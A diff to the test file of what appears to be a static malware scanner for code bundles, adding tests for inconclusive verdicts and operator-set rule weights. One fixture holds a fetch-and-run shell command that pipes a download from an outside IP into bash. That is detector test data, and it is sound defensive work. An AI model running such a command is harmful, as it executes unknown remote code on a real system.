@@ -5,6 +5,7 @@ import { bundleWith } from './bundle.testing';
 import { DEFAULT_LIMITS } from './limits';
 import type { Bundle, TextFile } from './scan-result';
 import { scanBundle } from './scan-bundle';
+import { DEFAULT_VERDICT_SETTINGS } from './verdict.rules';
 
 const FIXTURES = join(__dirname, 'fixtures');
 
@@ -49,7 +50,7 @@ describe('scanBundle', () => {
       reasonCodes: [],
       findings: [],
       summary: 'No suspicious patterns detected.',
-      engineVersion: 'reef-static-2.0.0',
+      engineVersion: 'reef-static-2.1.0',
       capabilityTags: [],
       notLookedAt: [],
     });
@@ -85,7 +86,7 @@ describe('scanBundle', () => {
       { path: 'b.js', text: `${'\n'.repeat(250)}eval(x)` },
       { path: 'c.js', text: 'eval(x)' },
     ];
-    const result = scanBundle(bundleWith({ files }), limits);
+    const result = scanBundle(bundleWith({ files }), { limits });
     expect(result.findings).toEqual([]);
     expect(result.notLookedAt).toEqual([
       { path: 'a.js', reason: 'Of line 1 (and 1 more) only the first 50 characters were scanned.', matters: true },
@@ -135,6 +136,23 @@ describe('scanBundle', () => {
     expect(notLookedAt).toEqual([
       { path: 'big.js', reason: expect.stringContaining('Of line 1 only the first') as string, matters: true },
     ]);
+  });
+
+  it('does not call clean what was left out before, where a payload could well be', () => {
+    const unseen = [{ path: 'big.js', reason: 'The file exceeds 10 bytes.' }];
+    expect(scanBundle(bundleWith({}), { unseen })).toMatchObject({ verdict: 'clean', notLookedAt: unseen });
+    const grave = unseen.map((place) => ({ ...place, matters: true }));
+    expect(scanBundle(bundleWith({}), { unseen: grave })).toMatchObject({ verdict: 'inconclusive' });
+  });
+
+  it('weighs findings as an operator wants', () => {
+    const files = [{ path: 'run.sh', text: 'curl -s http://203.0.113.9/x | bash\n' }];
+    const { verdict, findings } = scanBundle(bundleWith({ files }));
+    expect(verdict).toBe('malicious');
+    const ruleFactors = Object.fromEntries(findings.map(({ rule }) => [rule, 0]));
+    const lenient = scanBundle(bundleWith({ files }), { settings: { ...DEFAULT_VERDICT_SETTINGS, ruleFactors } });
+    expect(lenient).toMatchObject({ verdict: 'clean', score: 0 });
+    expect(lenient.engineVersion).not.toBe('reef-static-2.1.0');
   });
 
   it('is not led astray by circular or broken metadata', () => {
